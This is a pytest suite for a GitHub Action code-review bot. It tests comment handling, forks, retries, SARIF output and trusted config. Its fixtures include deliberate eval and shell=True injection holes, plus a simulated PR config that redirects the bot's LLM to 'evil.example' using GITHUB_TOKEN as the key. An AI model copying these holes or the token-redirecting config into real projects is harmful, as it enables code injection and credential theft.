"""``reviewbot action`` end to end against the fake GitHub: events, re-runs, forks, trusted config, API diff."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from reviewbot.cli import main
from reviewbot.github.markers import is_summary, read_fp
from tests.github.conftest import REPO, RO_TOKEN, ActionEnv
from tests.github.pr_repo import PrRepo
from tests.github.fake_github import FakeGitHub

BASE_APP = '''"""The app."""


def load(path):
    with open(path) as fh:
        return fh.read()
'''

HEAD_APP = '''"""The app."""


def load(path):
    with open(path) as fh:
        return fh.read()


def compute(expr):
    return eval(expr)


def report(value):
    print(value)
    return value
'''


def _pr(pr_repo: PrRepo, fake: FakeGitHub, number: int = 7, *, head_repo: str | None = None) -> tuple[str, str]:
    base = pr_repo.commit({"app.py": BASE_APP, "pyproject.toml": '[tool.reviewbot]\nfail-on = "error"\nanalyzers = []\n'}, "base")
    pr_repo.git("checkout", "-q", "-b", "feature")
    head = pr_repo.commit({"app.py": HEAD_APP}, "add compute and report")
    fake.add_pull(number, base, head, pr_repo.diff(base, head), head_repo=head_repo)
    return base, head


def _bot(fake: FakeGitHub, number: int) -> list[dict]:
    return [c for c in fake.comments_of(number) if c["user"]["login"] == "github-actions[bot]"]


def _summaries(fake: FakeGitHub, number: int) -> list[dict]:
    return [c for c in fake.issue_comments_of(number) if is_summary(c["body"])]


@pytest.mark.usefixtures("fake_analyzer", "sleeps")
def test_opened_posts_one_review_and_a_summary(action_env: ActionEnv, pr_repo: PrRepo, fake: FakeGitHub) -> None:
    base, head = _pr(pr_repo, fake)
    action_env.set(number=7, base=base, head=head)
    assert main(["action"]) == 1  # an error-level comment (eval) and fail-on = "error"
    reviews = fake.reviews_of(7)
    assert len(reviews) == 1 and reviews[0]["state"] == "COMMENTED" and reviews[0]["commit_id"] == head
    comments = _bot(fake, 7)
    assert sorted((c["path"], c["line"]) for c in comments) == [("app.py", 10), ("app.py", 14)]
    assert all(read_fp(c["body"]) for c in comments)
    assert all(c["side"] == "RIGHT" for c in comments)
    [summary] = _summaries(fake, 7)
    assert "2 comment(s)" in summary["body"] and "fakecheck" in summary["body"]
    out = action_env.outputs()
    assert out["comments"] == "2" and out["inline-comments"] == "2"
    assert "reviewbot" in action_env.summary.read_text(encoding="utf-8")
    # The Actions token cannot call GET /user: identity falls back to github-actions[bot] after one 403.
    assert ("GET", "/api/v3/user", 403) in fake.log
    # PyGithub never re-fetched single comments (absent in_reply_to_id must not trigger completion).
    assert not [e for e in fake.log if e[0] == "GET" and "/pulls/comments/" in e[1]]


@pytest.mark.usefixtures("fake_analyzer", "sleeps")
def test_three_runs_synchronize_and_reopen(action_env: ActionEnv, pr_repo: PrRepo, fake: FakeGitHub) -> None:
    base, head = _pr(pr_repo, fake)
    human = fake.seed_issue_comment(7, "alice", "Looks interesting, @bob please check")
    action_env.set(number=7, base=base, head=head)
    main(["action"])
    first = {read_fp(c["body"]): c["id"] for c in _bot(fake, 7)}
    [summary] = _summaries(fake, 7)

    # synchronize: report() is fixed, a new XXX line arrives, compute() is unchanged but moves down two lines
    fixed = HEAD_APP.replace("def compute", "# XXX check this\n\n\ndef compute").replace(
        "    print(value)\n", "")
    head2 = pr_repo.commit({"app.py": fixed}, "fix report, add a marker")
    fake.push(7, head2, pr_repo.diff(base, head2))
    action_env.set(number=7, base=base, head=head2, action="synchronize")
    main(["action"])
    second = {read_fp(c["body"]): c for c in _bot(fake, 7)}
    eval_fp = next(fp for fp in first if fp in second)
    assert second[eval_fp]["id"] == first[eval_fp]  # kept, not re-posted, and followed to its new line
    assert second[eval_fp]["line"] == 13
    assert len(second) == 2  # eval kept, print removed, XXX added
    assert any("XXX" in c["body"] for c in second.values())
    [summary2] = _summaries(fake, 7)
    assert summary2["id"] == summary["id"]  # edited in place, not re-posted
    assert "1 new, 1 already posted, 1 outdated removed" in summary2["body"]

    # reopened, same head: nothing new, nothing removed, no duplicate
    writes_before = len(fake.writes())
    action_env.set(number=7, base=base, head=head2, action="reopened")
    main(["action"])
    third = {read_fp(c["body"]): c["id"] for c in _bot(fake, 7)}
    assert third == {fp: c["id"] for fp, c in second.items()}
    assert len(_summaries(fake, 7)) == 1
    assert len(fake.reviews_of(7)) == 2  # one per run that had something new
    new_writes = fake.writes()[writes_before:]
    assert all(m == "PATCH" for m, _, _ in new_writes)  # only the summary edit
    assert next(c for c in fake.issue_comments_of(7) if c["id"] == human["id"])["body"] == human["body"]


@pytest.mark.usefixtures("fake_analyzer", "sleeps")
def test_outdated_comment_with_a_reply_is_kept(action_env: ActionEnv, pr_repo: PrRepo, fake: FakeGitHub) -> None:
    base, head = _pr(pr_repo, fake)
    action_env.set(number=7, base=base, head=head)
    main(["action"])
    print_comment = next(c for c in _bot(fake, 7) if "print" in c["body"])
    fake.seed_review_comment(7, "alice", "I need the print for debugging", "app.py", None,
                             in_reply_to=print_comment["id"])
    head2 = pr_repo.commit({"app.py": HEAD_APP.replace("    print(value)\n", "")}, "drop print")
    fake.push(7, head2, pr_repo.diff(base, head2))
    action_env.set(number=7, base=base, head=head2, action="synchronize")
    main(["action"])
    ids = {c["id"] for c in fake.comments_of(7)}
    assert print_comment["id"] in ids  # its finding is gone, but someone answered it
    assert "has replies" in _summaries(fake, 7)[0]["body"]


@pytest.mark.usefixtures("fake_analyzer", "sleeps")
def test_never_touches_other_peoples_comments(action_env: ActionEnv, pr_repo: PrRepo, fake: FakeGitHub) -> None:
    base, head = _pr(pr_repo, fake)
    # Someone pastes our markers into their own comments: they must be neither edited nor deleted.
    spoof = fake.seed_review_comment(7, "mallory", "gone finding <!-- reviewbot:fp=0123456789abcdef -->", "app.py", 10)
    fake_summary = fake.seed_issue_comment(7, "mallory", "## reviewbot\nall good\n\n<!-- reviewbot:summary -->")
    action_env.set(number=7, base=base, head=head)
    main(["action"])
    assert spoof in fake.comments_of(7)
    assert next(c for c in fake.issue_comments_of(7) if c["id"] == fake_summary["id"])["_edits"] == 0
    assert len([c for c in _summaries(fake, 7) if c["user"]["login"] == "github-actions[bot]"]) == 1


@pytest.mark.usefixtures("fake_analyzer", "sleeps")
def test_fork_pr_falls_back_to_annotations(action_env: ActionEnv, pr_repo: PrRepo, fake: FakeGitHub,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    base, head = _pr(pr_repo, fake, head_repo="mallory/demo")
    action_env.set(number=7, base=base, head=head, token=RO_TOKEN, head_repo="mallory/demo")
    code = main(["action"])
    assert code == 1  # per the fail level, not a crash (2)
    assert fake.comments_of(7) == [] and fake.issue_comments_of(7) == []
    out = capsys.readouterr().out
    assert "::error file=app.py,line=10,endLine=10,title=reviewbot%3A fakecheck%3AB307 (CWE-95)::" in out
    assert "::warning file=app.py,line=14" in out
    assert "read-only" in out
    summary = action_env.summary.read_text(encoding="utf-8")
    assert "eval" in summary and "read-only" in summary


@pytest.mark.usefixtures("fake_analyzer", "sleeps")
def test_config_comes_from_the_base_commit(action_env: ActionEnv, pr_repo: PrRepo, fake: FakeGitHub,
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    base = pr_repo.commit({"app.py": BASE_APP, ".reviewbot.toml": 'fail-on = "none"\nanalyzers = []\n'}, "base")
    pr_repo.git("checkout", "-q", "-b", "feature")
    # The PR tries to take the key: point the LLM at its own server and lower nothing else.
    head = pr_repo.commit({"app.py": HEAD_APP, ".reviewbot.toml": (
        'fail-on = "none"\nanalyzers = []\n[llm]\nprovider = "openai"\nbase-url = "http://evil.example"\napi-key-env = "GITHUB_TOKEN"\n'
    )}, "pr")
    fake.add_pull(7, base, head, pr_repo.diff(base, head))
    seen = []
    from reviewbot import wiring

    original = wiring.execute

    def spy(source, settings, **kw):  # type: ignore[no-untyped-def]
        seen.append(settings)
        return original(source, settings, **kw)

    monkeypatch.setattr(wiring, "execute", spy)
    action_env.set(number=7, base=base, head=head)
    assert main(["action"]) == 0  # fail-on = "none" from the base
    assert seen[0].file.llm.provider == "none" and seen[0].file.llm.base_url == ""
    assert "takes effect once merged" in _summaries(fake, 7)[0]["body"]
    # The workflow's inputs do override (they come from the trusted workflow file).
    monkeypatch.setenv("INPUT_FAIL_ON", "warning")
    assert main(["action"]) == 1


@pytest.mark.usefixtures("fake_analyzer", "sleeps")
def test_shallow_clone_uses_the_api_diff(action_env: ActionEnv, pr_repo: PrRepo, fake: FakeGitHub,
                                         tmp_path: Path) -> None:
    base, head = _pr(pr_repo, fake)
    shallow = tmp_path / "shallow"
    subprocess.run(["git", "clone", "-q", "--depth", "1", "--branch", "feature", f"file://{pr_repo.root}",
                    str(shallow)], check=True, capture_output=True)
    action_env.set(number=7, base=base, head=head, workspace=shallow)
    main(["action"])
    assert sorted(c["line"] for c in _bot(fake, 7)) == [10, 14]
    body = _summaries(fake, 7)[0]["body"]
    assert "diff comes from the API" in body
    assert any("/pulls/7/files" in path for _, path, _ in fake.log)
    assert any("/contents/" in path for _, path, _ in fake.log)  # the trusted config, read at the base commit


@pytest.mark.usefixtures("fake_analyzer", "sleeps")
def test_secondary_rate_limit_and_5xx_are_retried(action_env: ActionEnv, pr_repo: PrRepo, fake: FakeGitHub,
                                                  sleeps: list[float]) -> None:
    base, head = _pr(pr_repo, fake)
    fake.fault("POST", r"/pulls/7/reviews$", 403, headers={"Retry-After": "0.07"},
               body={"message": "You have exceeded a secondary rate limit. Please wait a few minutes."})
    fake.fault("GET", r"/pulls/7/comments$", 502, times=2)
    action_env.set(number=7, base=base, head=head)
    main(["action"])
    assert len(fake.reviews_of(7)) == 1 and len(_bot(fake, 7)) == 2
    assert 0.07 in sleeps  # Retry-After honoured
    assert sleeps.count(0.01) >= 1 and 0.02 in sleeps  # exponential backoff for the 502s


@pytest.mark.usefixtures("fake_analyzer", "sleeps")
def test_sarif_output_and_outputs(action_env: ActionEnv, pr_repo: PrRepo, fake: FakeGitHub, tmp_path: Path,
                                  monkeypatch: pytest.MonkeyPatch) -> None:
    base, head = _pr(pr_repo, fake)
    sarif = tmp_path / "out" / "reviewbot.sarif"
    action_env.set(number=7, base=base, head=head)
    monkeypatch.setenv("INPUT_SARIF_OUTPUT", str(sarif))
    main(["action"])
    data = json.loads(sarif.read_text(encoding="utf-8"))
    assert len(data["runs"][0]["results"]) == 2
    assert action_env.outputs()["sarif-file"] == str(sarif)


def test_not_a_pull_request_is_a_clear_error(action_env: ActionEnv, pr_repo: PrRepo,
                                             capsys: pytest.CaptureFixture[str]) -> None:
    pr_repo.commit({"a.py": "x = 1\n"})
    event = action_env.tmp / "push.json"
    event.write_text(json.dumps({"ref": "refs/heads/main"}), encoding="utf-8")
    action_env.mp.setenv("GITHUB_EVENT_PATH", str(event))
    action_env.mp.setenv("GITHUB_EVENT_NAME", "push")
    action_env.mp.setenv("GITHUB_REPOSITORY", REPO)
    assert main(["action"]) == 2
    assert "not about a pull request" in capsys.readouterr().err


@pytest.mark.slow
def test_console_script_in_a_subprocess(action_env: ActionEnv, pr_repo: PrRepo, fake: FakeGitHub) -> None:
    """The installed ``reviewbot`` script, as action.yml runs it (no analyzers configured: just the summary)."""
    script = shutil.which("reviewbot", path=str(Path(sys.executable).parent)) or shutil.which("reviewbot")
    if script is None:
        pytest.skip("the reviewbot console script is not installed in this environment")
    base = pr_repo.commit({"app.py": BASE_APP, ".reviewbot.toml": "analyzers = []\n"}, "base")
    pr_repo.git("checkout", "-q", "-b", "feature")
    head = pr_repo.commit({"app.py": HEAD_APP}, "pr")
    fake.add_pull(7, base, head, pr_repo.diff(base, head))
    action_env.set(number=7, base=base, head=head)
    sarif = action_env.tmp / "r.sarif"
    env = dict(os.environ, INPUT_SARIF_OUTPUT=str(sarif))
    proc = subprocess.run([script, "action"], cwd=pr_repo.root, env=env, capture_output=True, text=True, timeout=120, check=False)
    assert proc.returncode == 0, proc.stderr
    assert len(_summaries(fake, 7)) == 1
    assert json.loads(sarif.read_text(encoding="utf-8"))["version"] == "2.1.0"
    assert action_env.outputs()["comments"] == "0"


@pytest.mark.usefixtures("fake_analyzer", "sleeps")
@pytest.mark.parametrize("how", ["no-token", "no-publish"])
def test_without_publishing_results_go_to_annotations(action_env: ActionEnv, pr_repo: PrRepo, fake: FakeGitHub,
                                                       capsys: pytest.CaptureFixture[str], how: str) -> None:
    base, head = _pr(pr_repo, fake)
    action_env.set(number=7, base=base, head=head)
    if how == "no-token":
        action_env.mp.delenv("GITHUB_TOKEN")
    assert main(["action", *(["--no-publish"] if how == "no-publish" else [])]) == 1
    assert fake.writes() == []
    out = capsys.readouterr().out
    assert out.count("::error file=app.py") == 1 and out.count("::warning file=app.py") == 1
    assert "eval" in action_env.summary.read_text(encoding="utf-8")


@pytest.mark.slow
@pytest.mark.usefixtures("sleeps")
def test_real_bandit_end_to_end(action_env: ActionEnv, pr_repo: PrRepo, fake: FakeGitHub, tmp_path: Path,
                                monkeypatch: pytest.MonkeyPatch) -> None:
    from reviewbot import analyzers

    if "bandit" not in analyzers.available():
        pytest.skip("the bandit analyzer is not registered yet")
    base = pr_repo.commit({"tool.py": "import subprocess\n", ".reviewbot.toml": 'analyzers = ["bandit"]\n'}, "base")
    pr_repo.git("checkout", "-q", "-b", "feature")
    head = pr_repo.commit({"tool.py": "import subprocess\n\n\ndef run(cmd):\n"
                                      "    return subprocess.call(cmd, shell=True)\n"}, "shell")
    fake.add_pull(7, base, head, pr_repo.diff(base, head))
    action_env.set(number=7, base=base, head=head)
    monkeypatch.setenv("INPUT_SARIF_OUTPUT", str(tmp_path / "b.sarif"))
    main(["action"])
    posted = _bot(fake, 7)
    assert posted and all(c["path"] == "tool.py" and c["line"] == 5 for c in posted)
    assert "bandit" in posted[0]["body"]
    sarif = json.loads((tmp_path / "b.sarif").read_text(encoding="utf-8"))
    assert any(r["id"].startswith("bandit/") for r in sarif["runs"][0]["tool"]["driver"]["rules"])


@pytest.mark.usefixtures("fake_analyzer", "sleeps")
def test_sarif_output_holds_every_comment_over_the_noise_budget(action_env: ActionEnv, pr_repo: PrRepo,
                                                                fake: FakeGitHub, tmp_path: Path,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    """max-comments limits what is posted on the pull request, not what the SARIF file carries (issue 14)."""
    base = pr_repo.commit({"app.py": BASE_APP, "pyproject.toml": '[tool.reviewbot]\nanalyzers = []\n'}, "base")
    pr_repo.git("checkout", "-q", "-b", "feature")
    files = {f"pkg/mod_{i}.py": f"def f{i}(x):\n    return eval(x)\n" for i in range(5)}
    head = pr_repo.commit(files, "five evals")
    fake.add_pull(7, base, head, pr_repo.diff(base, head))
    action_env.set(number=7, base=base, head=head)
    sarif = tmp_path / "r.sarif"
    monkeypatch.setenv("INPUT_SARIF_OUTPUT", str(sarif))
    monkeypatch.setenv("INPUT_MAX_COMMENTS", "2")
    main(["action"])
    assert len(_bot(fake, 7)) == 2
    results = json.loads(sarif.read_text(encoding="utf-8"))["runs"][0]["results"]
    assert sorted(r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in results) == sorted(files)
    assert [r["properties"]["posted"] for r in results] == [True, True, False, False, False]
